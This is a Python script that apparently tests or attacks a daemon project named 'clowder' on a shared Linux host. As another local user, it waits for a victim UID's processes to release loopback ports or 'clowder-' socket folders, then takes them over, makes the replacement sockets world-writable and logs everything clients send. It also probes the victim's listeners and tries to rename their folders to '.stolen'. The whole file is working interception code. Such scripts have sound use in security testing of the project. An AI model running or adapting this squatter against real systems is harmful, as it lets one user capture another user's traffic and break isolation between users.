#!/usr/bin/env python3
"""Another user of a host who wants to be the home of somebody's daemons: squatter.py VICTIM_UID LOG

Takes every port and every path that the victim's processes give up, the moment they do, and writes down what anybody says
there; and talks to whatever of the victim's listens. LOG has a line for each: LEARNT (bytes that came to a place that was
taken), ANSWERED (bytes that came back from the victim's). Lines that begin with "took" or "tried" are for people only.
"""
import glob
import os
import selectors
import socket
import sys
import time

victim, log = int(sys.argv[1]), open(sys.argv[2], "w", buffering=1)
poll = selectors.DefaultSelector()
known_ports, known_folders, taken, tried = set(), set(), set(), set()


def say(*words):
    print(*words, file=log)


def listening_ports():
    """Ports of the loopback, or of all addresses, that somebody listens at: {port: uid}"""
    found = {}
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).readlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                found[int(fields[1].rsplit(":", 1)[1], 16)] = int(fields[7])
    return found


def serve(listener, what):
    listener.listen(64)
    listener.setblocking(False)
    poll.register(listener, selectors.EVENT_READ, ("accept", what))
    say("took", what)


def take_port(port):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", port))
    except OSError:
        s.close()
        return
    taken.add(port)
    serve(s, f"port {port}")


def take_folder(folder):
    try:
        os.mkdir(folder, 0o755)
    except OSError:
        return
    taken.add(folder)
    for number in range(1, 9):
        s = socket.socket(socket.AF_UNIX)
        s.bind(f"{folder}/{number}")
        os.chmod(f"{folder}/{number}", 0o777)
        serve(s, f"{folder}/{number}")


def ask(address, family, what):
    """Says something that a daemon, a home or a web server might answer."""
    s = socket.socket(family)
    s.settimeout(0.3)
    try:
        s.connect(address)
        s.sendall(b"mallory was here\n")
        answer = s.recv(4096)
        if answer:
            say("ANSWERED", what, answer[:80])
    except OSError:
        pass
    s.close()
    say("tried", what)


def look():
    ports = listening_ports()
    for port, uid in ports.items():
        if uid == victim and port not in known_ports:
            known_ports.add(port)
            ask(("127.0.0.1", port), socket.AF_INET, f"port {port}")
    for port in known_ports - taken - set(ports):
        take_port(port)
    folders = set(glob.glob("/tmp/clowder-??????") + glob.glob(f"/run/user/{victim}/clowder-*"))
    for folder in folders - known_folders:
        try:
            if os.stat(folder).st_uid != victim:
                continue
        except OSError:
            continue
        known_folders.add(folder)
        for number in range(1, 9):
            ask(f"{folder}/{number}", socket.AF_UNIX, f"{folder}/{number}")
        try:
            os.rename(folder, folder + ".stolen")
            say("ANSWERED", folder, "could be moved away")
        except OSError:
            pass
    for folder in known_folders - taken - folders:
        take_folder(folder)


say("here")
while True:
    look()
    for key, _ in poll.select(0.001):
        kind, what = key.data
        if kind == "accept":
            try:
                c, _ = key.fileobj.accept()
            except OSError:
                continue
            c.setblocking(False)
            poll.register(c, selectors.EVENT_READ, ("read", what))
        else:
            try:
                data = key.fileobj.recv(65536)
            except OSError:
                data = b""
            if data:
                say("LEARNT", what, data[:200])
            else:
                poll.unregister(key.fileobj)
                key.fileobj.close()
    time.sleep(0.001)
